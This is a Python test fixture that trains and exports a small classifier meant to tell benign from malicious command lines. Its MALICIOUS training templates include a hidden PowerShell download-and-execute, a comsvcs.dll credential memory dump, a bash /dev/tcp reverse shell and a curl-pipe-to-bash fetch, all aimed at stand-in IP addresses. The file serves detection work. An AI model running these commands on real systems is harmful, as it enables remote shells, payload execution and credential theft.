"""A small model of lines written for these tests, fitted and exported once."""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest

from cmdclf.classify import Classifier, Featuriser, aggregated_baseline, export_model, training_arrays
from cmdclf.classify.grams import GramModel
from cmdclf.features import FeatureMaker, load_embedder
from cmdclf.telemetry import command_ids

BENIGN = (
    (r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule{n}", "windows"),
    (r"powershell.exe -NoProfile -File C:\Scripts\backup{n}.ps1", "windows"),
    (r"msiexec.exe /i C:\Temp\agent-{n}.msi /qn", "windows"),
    ("tar -czf /backup/home-{n}.tar.gz /home", "linux"),
    ("grep -rn timeout{n} /etc/nginx", "linux"),
    ("/usr/sbin/softwareupdate -l --task {n}", "macos"),
)
MALICIOUS = (
    ("powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.{n}/a')", "windows"),
    (r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {n} C:\Temp\l{n}.dmp full", "windows"),
    ("bash -i >& /dev/tcp/192.0.2.{n}/4444 0>&1", "linux"),
    ("curl -s http://198.51.100.{n}/x.sh | bash", "linux"),
)


def labelled(per_template: int = 40) -> pa.Table:
    rows = [
        {"command_line": line.replace("{n}", str(n)), "platform": platform, "label": label, "source": f"{label}-{k}"}
        for label, templates in (("benign", BENIGN), ("malicious", MALICIOUS))
        for k, (line, platform) in enumerate(templates)
        for n in range(1, per_template + 1)
    ]
    return pa.Table.from_pylist(rows)


def lines_batch(rows: list[tuple[str, str, int]]) -> pa.RecordBatch:
    """LINES plus events from (command_line, platform, events)."""
    text, platform = pa.array([r[0] for r in rows], pa.string()), pa.array([r[1] for r in rows], pa.string())
    events = pa.array([r[2] for r in rows], pa.int64())
    names = ["command_id", "platform", "command_line", "events"]
    return pa.record_batch([command_ids(platform, text), platform, text, events], names=names)


class NoRules:
    def any(self, lines, platform=None):
        return np.zeros(len(lines), dtype=bool)


class SmallModel:
    def __init__(self, folder):
        training = aggregated_baseline([], NoRules(), [labelled()])
        self.lines = training.select(["command_id", "platform", "command_line"]).combine_chunks()
        self.batch = self.lines.to_batches()[0]
        self.labels, _, groups = training_arrays(training)
        grams = GramModel().fit(self.batch["command_line"], self.labels)
        maker = FeatureMaker(buckets=2**12).fit([self.batch])
        self.featuriser = Featuriser(maker, load_embedder(), grams=grams)
        self.matrix = self.featuriser.matrix(self.batch)
        self.classifier = Classifier(max_iter=20, beside=1).fit(self.matrix, self.labels, groups=groups)
        self.folder = export_model(
            folder / "model",
            self.classifier,
            self.featuriser,
            name="small",
            provenance={"lines": len(self.labels)},
            metrics={},
            created="2026-01-01T00:00:00+00:00",
        )


@pytest.fixture(scope="session")
def small(tmp_path_factory):
    return SmallModel(tmp_path_factory.mktemp("small"))
